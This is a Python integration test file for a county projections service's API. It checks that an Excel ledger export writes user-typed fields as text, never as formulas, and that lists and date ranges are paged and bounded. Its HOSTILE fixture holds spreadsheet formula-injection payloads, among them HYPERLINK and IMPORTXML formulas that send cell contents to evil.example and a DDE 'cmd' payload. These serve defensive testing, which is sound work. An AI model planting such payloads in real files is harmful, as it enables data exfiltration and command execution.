"""Every list is a page with its total, every range is bounded, and the ledger writes typed text as text.

Through projections' HTTP API, over a county's events read from the real broker into the real database,
with a few problems whose words a spreadsheet would take for formulas (issue 12, findings 3 and 16).
"""

import asyncio
import io
import threading
import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

import httpx
import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook

from bench.county import County, publish, simulate
from services.projections.api.closure import MAX_TREND_POINTS
from services.projections.api.reports import LEDGER_MAX_ROWS
from services.projections.ledger import HEADERS
from services.projections.main import create_app
from services.projections.settings import ProjectionsSettings
from shared.clock import now
from shared.contracts import cases, intake
from shared.contracts.base import Event
from shared.contracts.codes import Domain, Source
from shared.envelope import Envelope
from tests.conftest import SettingsFactory
from tests.integration.projections.support import caught_up
from tests.support.service import running

# What a spreadsheet would take for a formula (OWASP CSV injection: = + - @, tab, CR) or an error value.
HOSTILE: list[dict[str, str]] = [
    {
        "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")',
        "description": "=1+1",
        "township": "@城关镇",
        "unit": "=cmd|' /C calc'!A0",
        "problem": "+河道采砂",
        "task": "-清理砂场",
        "measures": "\t=逾期约谈",
        "leader": "=王建国",
    },
    {
        "title": "+SUM(1,2)",
        "description": "\r=2+2",
        "township": "-河西镇",
        "unit": "@生态环境局",
        "problem": "#N/A",
        "task": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
        "measures": "\r\n=约谈",
        "leader": "@李红",
    },
]


@dataclass
class Live:
    client: httpx.AsyncClient
    county: County
    hostile: dict[str, dict[str, str]]  # issue id → its words


def hostile_problem(words: dict[str, str], at: datetime) -> tuple[str, list[Envelope]]:
    """A reported, opened and assigned problem whose every typed field is `words`."""
    issue_id = f"issue-hostile-{uuid.uuid4().hex[:8]}"
    events: list[Event] = [
        intake.IssueReported(
            issue_id=issue_id,
            source=Source.MEDIA,
            title=words["title"],
            description=words["description"],
            township=words["township"],
            domain=Domain.WATER,
        ),
        cases.CaseOpened(
            case_id=issue_id,
            source=Source.MEDIA,
            title=words["title"],
            township=words["township"],
            domain=Domain.WATER,
            reported_at=at,
        ),
        cases.Assigned(
            problem=words["problem"],
            task=words["task"],
            unit=words["unit"],
            leader=cases.AssignedLeader(name=words["leader"], post="副县长", liaison=None),
            deadline=at + timedelta(days=30),
            measures=words["measures"],
        ),
    ]
    envelopes = [
        Envelope(
            event_id=uuid.uuid4(),
            type=event.event_type(),
            schema_version=event.schema_version,
            stream_id=issue_id,
            stream_version=1 if isinstance(event, intake.IssueReported) else n,
            occurred_at=at + timedelta(minutes=n),
            correlation_id=issue_id,
            actor="test",
            payload=event,
        )
        for n, event in enumerate(events)
    ]
    return issue_id, envelopes


# Every test here only reads: they share one county and one projections service that read it.
@pytest.fixture(scope="module")
async def live(module_settings: SettingsFactory) -> AsyncIterator[Live]:
    settings = module_settings(ProjectionsSettings)
    at = now()
    county = simulate(seed=12, issues=40, now=at)
    hostile: dict[str, dict[str, str]] = {}
    envelopes = list(county.envelopes)
    for n, words in enumerate(HOSTILE):
        issue_id, events = hostile_problem(words, at - timedelta(days=3 + n))
        hostile[issue_id] = words
        envelopes += events
    await publish(settings, envelopes)
    async with running(create_app(settings)) as client:
        await caught_up(client, len(envelopes))
        yield Live(client, county, hostile)


def workbook_of(response: httpx.Response) -> Workbook:
    assert response.status_code == 200, response.text
    return openpyxl.load_workbook(io.BytesIO(response.content))


def ledger_rows(book: Workbook) -> list[dict[str, Any]]:
    rows: list[tuple[Any, ...]] = list(book["整改台账"].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


# ---- finding 3: formula injection


async def test_the_ledger_writes_typed_words_as_text_never_as_formulas(live: Live) -> None:
    book = workbook_of(await live.client.get("/v1/exports/ledger.xlsx", params={"source": "media"}))
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
    by_id = {row["问题编号"]: row for row in ledger_rows(book)}
    for issue_id, words in live.hostile.items():
        row = by_id[issue_id]
        written = (
            row["问题标题"],
            row["乡镇"],
            row["具体问题"],
            row["整改目标及措施"],
            row["责任单位"],
            row["包案领导"],
            row["奖惩措施"],
        )
        typed = (
            words["title"],
            words["township"],
            words["problem"],
            words["task"],
            words["unit"],
            f"{words['leader']}（副县长）",
            words["measures"].replace("\r\n", "\n").replace("\r", "\n"),  # line ends are LF in the XML
        )
        assert written == typed


async def test_the_ledger_filtered_by_a_hostile_unit_name_says_so_as_text(live: Live) -> None:
    unit = HOSTILE[0]["unit"]
    book = workbook_of(await live.client.get("/v1/exports/ledger.xlsx", params={"unit": unit}))
    assert [row["责任单位"] for row in ledger_rows(book)] == [unit]
    notes: dict[Any, Any] = {name: value for name, value in book["说明"].iter_rows(values_only=True)}
    assert notes["筛选条件"] == f"unit={unit}"
    assert all(cell.data_type == "s" for row in book["说明"].iter_rows() for cell in row)
    sheet = book["整改台账"]
    column = get_column_letter(HEADERS.index("责任单位") + 1)
    assert (sheet[f"{column}2"].data_type, sheet[f"{column}2"].value) == ("s", unit)


# ---- finding 16: bounded ranges, paged lists, the ledger in parts off the event loop


async def test_a_trend_of_more_periods_than_the_bound_is_refused_in_chinese_naming_from(live: Live) -> None:
    too_long = {"from": "2015-01-01", "to": "2024-12-31", "interval": "month"}  # 120 months
    response = await live.client.get("/v1/stats/closure-trend", params=too_long)
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert "from" in str(error) and f"最多{MAX_TREND_POINTS}个统计周期" in error["message"]
    same_years = await live.client.get("/v1/stats/closure-trend", params={**too_long, "interval": "year"})
    assert same_years.status_code == 200 and len(same_years.json()["points"]) == 10


async def test_a_trend_without_from_shows_at_most_the_last_periods_of_the_bound(live: Live) -> None:
    far = (now() + timedelta(days=366 * 6)).date()
    trend = (await live.client.get("/v1/stats/closure-trend", params={"to": far.isoformat()})).json()
    assert len(trend["points"]) == MAX_TREND_POINTS
    assert trend["points"][-1]["key"] == f"{far.year:04d}-{far.month:02d}"


async def pages(
    client: httpx.AsyncClient, path: str, params: dict[str, str], size: int
) -> tuple[int, list[dict[str, Any]]]:
    """Every item of a list, a page of `size` at a time: each page holds at most `size` and says the total."""
    items: list[dict[str, Any]] = []
    totals = set()
    while True:
        answer = (await client.get(path, params={**params, "limit": str(size), "offset": str(len(items))})).json()
        assert (answer["limit"], answer["offset"]) == (size, len(items))
        assert len(answer["items"]) <= size
        totals.add(answer["total"])
        items += answer["items"]
        if not answer["items"] or len(items) >= answer["total"]:
            break
    assert len(totals) == 1
    return totals.pop(), items


async def test_the_items_behind_the_accountability_tally_come_a_page_at_a_time_with_their_total(live: Live) -> None:
    params = {"include_revoked": "true"}
    whole = (await live.client.get("/v1/stats/accountability/items", params=params)).json()
    assert whole["total"] == len(whole["items"]) > 3
    total, paged = await pages(live.client, "/v1/stats/accountability/items", params, 3)
    assert total == whole["total"] and paged == whole["items"]


async def test_the_enforcement_cases_come_a_page_at_a_time_with_their_total(live: Live) -> None:
    whole = (await live.client.get("/v1/stats/enforcement/cases")).json()
    assert whole["total"] == len(whole["items"]) > 2
    total, paged = await pages(live.client, "/v1/stats/enforcement/cases", {}, 2)
    assert total == whole["total"] and paged == whole["items"]
    figures = (await live.client.get("/v1/stats/enforcement")).json()
    assert sum(i["figures"]["cases_filed"] for i in paged) == figures["totals"]["cases_filed"]


async def test_a_page_larger_than_the_bound_is_refused_naming_limit(live: Live) -> None:
    for path, limit in (
        ("/v1/stats/accountability/items", 10_001),
        ("/v1/stats/enforcement/cases", 10_001),
        ("/v1/stats/closure-rates/cases", 10_001),
        ("/v1/cases/overdue", 10_001),
        ("/v1/exports/ledger.xlsx", LEDGER_MAX_ROWS + 1),
    ):
        response = await live.client.get(path, params={"limit": str(limit)})
        assert response.status_code == 422, (path, response.text)
        assert "limit" in str(response.json()["error"]), path


async def test_the_ledger_comes_in_bounded_parts_that_add_up_to_every_case(live: Live) -> None:
    everything = (await live.client.get("/v1/stats/closure-rates/cases")).json()
    url: str | None = "/v1/exports/ledger.xlsx?limit=15"
    numbers: list[int] = []
    issue_ids: list[str] = []
    while url:
        response = await live.client.get(url)
        assert response.headers["x-total-count"] == str(everything["total"])
        rows = ledger_rows(workbook_of(response))
        assert 0 < len(rows) <= 15
        numbers += [row["序号"] for row in rows]
        issue_ids += [row["问题编号"] for row in rows]
        link = response.headers.get("link")
        url = link.split(">", 1)[0].lstrip("<") if link else None
        if url:
            assert link and link.endswith('rel="next"') and "as_of=" in url
    assert numbers == list(range(1, everything["total"] + 1))
    assert sorted(issue_ids) == sorted(item["issue_id"] for item in everything["items"])


async def test_the_ledger_is_written_off_the_event_loop(live: Live, monkeypatch: pytest.MonkeyPatch) -> None:
    """While the workbook is being written, the service still answers: the writing holds no event loop."""
    writing, answered = threading.Event(), threading.Event()
    outcome: list[bool] = []
    save: Callable[[Workbook, Any], None] = Workbook.save

    def slow_save(book: Workbook, filename: Any) -> None:
        writing.set()
        outcome.append(answered.wait(timeout=5))  # the test answers a request meanwhile, if the loop is free
        save(book, filename)

    monkeypatch.setattr(Workbook, "save", slow_save)
    export = asyncio.create_task(live.client.get("/v1/exports/ledger.xlsx"))
    while not writing.is_set() and not export.done():
        await asyncio.sleep(0.01)
    assert (await live.client.get("/healthz")).status_code == 200
    answered.set()
    assert (await export).status_code == 200
    assert outcome == [True], "the event loop was blocked while the workbook was written"
